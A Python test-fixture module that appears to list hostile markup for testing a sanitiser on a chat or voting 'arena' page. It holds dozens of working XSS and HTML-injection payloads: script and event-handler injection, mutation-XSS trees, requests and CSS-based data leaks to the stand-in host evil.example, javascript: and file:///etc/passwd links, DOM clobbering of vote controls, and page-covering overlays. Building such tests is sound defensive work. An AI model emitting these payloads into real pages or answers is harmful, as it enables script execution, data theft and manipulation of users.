"""Hostile markup by kind, written independently of the sanitiser; `EVIL` is a foreign origin.

Scripts set `window.ran` or open a dialog; requests go to the foreign origin.
"""

from __future__ import annotations

from typing import Final

EVIL: Final = "https://evil.example"
RUN: Final = "window.ran=1"

SCRIPTS: Final = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\n>{RUN}</script\n>",
    f"<script/src=data:,{RUN}></script>",
    f'<script type="module">import "{EVIL}/module.js"</script>',
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:text/javascript,{RUN}' /></svg>",
    f"<math><annotation-xml encoding='text/html'><script>{RUN}</script></annotation-xml></math>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript></noscript><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"--><script>{RUN}</script><!--",
    f"</textarea></title></style><script>{RUN}</script>",
    f"\u003cscript\u003e{RUN}\u003c/script\u003e",
    f"<\uff53cript>{RUN}</\uff53cript> \ufe64script\ufe65{RUN}",
    f"<s\u0000cript>{RUN}</s\u0000cript> <\u200bscript>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#x3c;script&#x3e;{RUN}&#x3c;/script&#x3e; &LT;script&GT;{RUN}",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
]
"""Script elements, also hidden ones and those that a parser repairs."""

HANDLERS: Final = [
    f"<img src=x onerror={RUN}>",
    f'<img src="x" OnErRoR="{RUN}">',
    f"<img/src='x'/onerror={RUN}//>",
    f"<img src=x\nonerror\n=\n{RUN}>",
    f'<img alt="`"src=x onerror={RUN}>`',
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={RUN}>",
    f"<body onload={RUN}> <body onpageshow={RUN}>",
    f"<video><source onerror={RUN}></video> <audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}> <select autofocus onfocus={RUN}> <textarea autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<div popover id=p onbeforetoggle={RUN}>x</div><button popovertarget=p>x</button>",
    f"<p style='animation:x 1s' onanimationstart={RUN}>x</p><style>@keyframes x{{}}</style>",
    f"<xss contenteditable onbeforeinput={RUN} tabindex=1 autofocus onfocusin={RUN}>x</xss>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
]
"""Event handlers, and trees that change when they are parsed again."""

FETCHES: Final = [
    f"<img src='{EVIL}/a.png'> <img srcset='{EVIL}/b.png 2x'> <img src=//evil.example/c.png>",
    f"<picture><source srcset={EVIL}/d.png><img></picture>",
    f"<iframe src={EVIL}/e></iframe> <iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    f"<iframe src='javascript:parent.ran=1'></iframe> <frameset><frame src={EVIL}/f></frameset>",
    f"<object data={EVIL}/g></object> <object data='data:text/html,<script>parent.ran=1</script>'></object>",
    f"<embed src={EVIL}/h> <embed src='javascript:{RUN}'> <applet code={EVIL}/i></applet>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/j'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'> <meta http-equiv=Set-Cookie content='a=b'>",
    f"<base href={EVIL}/k/> <base target=_blank>",
    f"<form action={EVIL}/l method=post><button>Vote</button></form> <button formaction={EVIL}/m form=f>x</button>",
    f"<link rel=stylesheet href={EVIL}/n.css> <link rel=preload as=image href={EVIL}/o.png>",
    f"<link rel=dns-prefetch href=//evil.example> <link rel=preconnect href={EVIL}> <link rel=import href={EVIL}/p>",
    f"<style>@import '{EVIL}/q.css';</style>",
    f"<style>@font-face{{font-family:x;src:url({EVIL}/r)}} *{{font-family:x}}</style>",
    f"<style>#vote_a{{background:url({EVIL}/s)}} input[value^=a]{{background:url({EVIL}/t)}}</style>",
    f"<div style='background-image:url({EVIL}/u);list-style:url({EVIL}/v)'>x</div>",
    f"<p style='--x:url({EVIL}/w);cursor:image-set(\"{EVIL}/x\" 1x)'>x</p>",
    f"<svg><image href={EVIL}/y.png /><use href='{EVIL}/z.svg#a'/><feImage href={EVIL}/aa.png /></svg>",
    f"<svg><style>@import url({EVIL}/ab.css)</style></svg> <svg filter='url({EVIL}/ac.svg#f)'>",
    f"<video poster={EVIL}/ad.png src={EVIL}/ae.mp4 autoplay> <track src={EVIL}/af.vtt default>",
    f"<table background={EVIL}/ag.png><td background={EVIL}/ah.png> <body background={EVIL}/ai.png>",
    f"<portal src={EVIL}/aj></portal> <fencedframe src={EVIL}/ak></fencedframe> <html manifest={EVIL}/al>",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{EVIL}/am"]}}]}}</script>',
]
"""Elements and styles that make requests, navigate, or send form data."""

LINKS: Final = [
    f"[x](javascript:{RUN}) [x](JaVaScRiPt:{RUN}) [x]( javascript:{RUN}) [x](<javascript:{RUN}>)",
    f"[x](java\tscript:{RUN}) [x](java&Tab;script:{RUN}) [x](javascript&colon;{RUN}) [x](&#106;avascript:{RUN})",
    f"[x](\x01javascript:{RUN}) [x](data:text/html,<script>{RUN}</script>) [x](data:text/html;base64,PHNjcmlwdD4=)",
    f"[x](vbscript:{RUN}) [x](blob:{EVIL}/a) [x](file:///etc/passwd) [x](view-source:{EVIL}) [x](intent://x#Intent;end)",
    f"<javascript:{RUN}> <data:text/html,x> <{EVIL}/auto> <mailto:a@evil.example>",
    f"[x][1] [x][] ![x][1]\n\n[1]: javascript:{RUN}\n[x]: {EVIL}/reference 'title'",
    f"![x]({EVIL}/1.png) ![x]( <{EVIL}/2.png> ) ![]({EVIL}/3.png 'onerror={RUN}')",
    f"![x](data:image/svg+xml,<svg/onload={RUN}>)",
    f"[![x]({EVIL}/4.png)]({EVIL}/5) ![![x]({EVIL}/6.png)]({EVIL}/7.png) [a![b][c]]({EVIL}/8)",
    f'[x]({EVIL}/9"onmouseover="{RUN}) [x]({EVIL}/10 "a\\"onclick={RUN}") [x](<{EVIL}/11"onclick={RUN}>)',
    f"{EVIL}/12 www.evil.example/13 HTTPS://EVIL.EXAMPLE/14 a@evil.example {EVIL}/<b>15 {EVIL}/`16` {EVIL}/16$x$",
    f"[^1] and [^a b]\n\n[^1]: ![x]({EVIL}/17.png) <img src={EVIL}/18.png onerror={RUN}>\n[^a b]: [x](data:,x)",
    f"| a | b |\n|---|---|\n| <img src={EVIL}/19.png> | ![x]({EVIL}/20.png) |\n| `|<img src={EVIL}/21.png>` | x |",
    f"<a href='javascript:{RUN}'>x</a> <a xlink:href={EVIL}>x</a>",
    f"<a href={EVIL}/22 target=_self ping={EVIL}/23 download>x</a>",
    f"<map name=m><area href='javascript:{RUN}' shape=default></map> <svg><a href='{EVIL}/24'><text>x</text></a></svg>",
    f"[\u202ehttps://arena.example\u202c]({EVIL}/25) [https://arena.example]({EVIL}/26) [x](https://arena.example@evil.example/27)",
    f"[x]({EVIL}\\@arena.example/28) [x](https:/\\evil.example/29) [x](///evil.example/30) [x](https:evil.example/31)",
]
"""Links and images in Markdown."""

CLOBBERS: Final = [
    "<a id=arena name=arena>x</a><form id=document name=body><input name=attributes></form>",
    "<img name=getElementById><img name=querySelector> <form name=forms><input name=parentNode></form>",
    "<div id=vote_a>x</div><button id=vote_b>x</button><div id=reveal-box>x</div><div id=notice-box>x</div>",
    "<script-path data-src=https://evil.example/battle.js></script-path> <div id=arena-texts>{}</div>",
    "# vote_a {#vote_a}\n\n## Heading {#send .a-notice onclick=window.ran=1}",
    "<iframe name=arena></iframe><object name=parent></object><embed name=top>",
    "[x]{#prompt} ![x]{#pair} ::: {#main}\nx\n:::",
    "<span class='a-notice a-vote-b' data-act=agree data-phase=voted hidden>x</span>",
    "constructor __proto__ <input name=__proto__ value=x> <a id=__proto__>",
]
"""Ids and names that would replace those of the page (DOM clobbering)."""

COVERS: Final = [
    "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Vote B</div>",
    "<dialog open style='position:fixed;inset:0'>Vote B</dialog> <div popover=manual>x</div>",
    "<style>#votes{display:none} body::before{content:'Vote B';position:fixed;inset:0}</style>",
    "<svg width=9999 height=9999 style='position:absolute;top:-999px'><rect width=9999 height=9999 /></svg>",
    "<marquee style='position:fixed'>x</marquee> <center><font size=999>x</font></center>",
    "$\\rule{500em}{500em}$ $\\raise 99em{\\rule{99em}{99em}}$ $\\kern{-99em}x$ $\\smash{\\rule{9em}{99em}}$",
    "$$\\htmlStyle{position:fixed;inset:0}{x} \\htmlClass{a-notice}{x} \\htmlId{vote_a}{x} \\cssId{send}{x}$$",
    "$$\\begin{array}{c}"
    + "\\rule{1em}{9em}\\\\" * 60
    + "\\end{array}$$ $\\def\\x{\\x\\x}\\x$ $\\Huge"
    + "\\Huge" * 40
    + "{X}$",
    f"$\\href{{javascript:{RUN}}}{{x}} \\url{{{EVIL}/32}} \\includegraphics{{{EVIL}/33.png}}$",
    f"$\\htmlData{{onclick={RUN}}}{{x}}$",
    "Z\u0351\u036b\u0343" + "\u0351\u036b\u0343\u036a\u0302" * 200 + " \u202ereversed \u2067isolated",
    "W" * 4000,
    "| " + "wide | " * 200 + "\n|" + "---|" * 200 + "\n| " + "cell | " * 200,
    "> " * 300 + "deep",
    "".join(f"{'  ' * depth}- level\n" for depth in range(60)),
]
"""Markup that would cover the page or move its parts."""

FENCES: Final = [
    f"```html\n<script>{RUN}</script>\n```\n<script>{RUN}</script>",
    f'```"><img src=x onerror={RUN}>\nx\n```',
    f'```mermaid\ngraph TD; A["<img src={EVIL}/34.png onerror={RUN}>"]; click A href "javascript:{RUN}"\n```',
    f"````\n```\n````\n<img src={EVIL}/35.png>\n```",
    f"`<img src={EVIL}/36.png>`` <img src={EVIL}/37.png>`",
    f"$$<img src={EVIL}/38.png>$$ $<script>{RUN}</script>$ \\(<svg onload={RUN}>\\)",
    f"- ```\n  <img src={EVIL}/39.png>\nout <img src={EVIL}/40.png onerror={RUN}>",
    f"~~~\n<img src={EVIL}/41.png>\n```\n<img src={EVIL}/42.png>",
    f"<pre><code>```\n</code></pre><img src={EVIL}/43.png onerror={RUN}>\n```js\n<script>{RUN}</script>",
]
"""False code blocks; the last ones never end, so each must be the end of an answer."""

KINDS: Final = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "fetches": FETCHES,
    "links": LINKS,
    "clobbers": CLOBBERS,
    "covers": COVERS,
    "fences": FENCES,
}
